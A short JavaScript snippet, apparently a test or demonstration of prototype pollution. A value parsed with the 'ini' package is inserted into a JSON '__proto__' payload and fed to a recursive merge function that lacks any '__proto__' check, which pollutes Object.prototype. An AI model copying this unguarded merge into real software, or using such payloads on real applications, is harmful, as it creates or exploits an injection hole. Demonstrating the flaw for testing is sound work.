// Reads a harmless file with ini; the merging that does the damage is the program's own.
const ini = require('ini');

const settings = ini.parse('[editor]\nname = @@TOKEN@@\n');
function merge(into, from) {
  for (const key of Object.keys(from)) {
    if (typeof from[key] === 'object') merge(into[key] || (into[key] = {}), from[key]);
    else into[key] = from[key];
  }
}
merge({}, JSON.parse('{"__proto__": {"' + settings.editor.name + '": 1}}'));
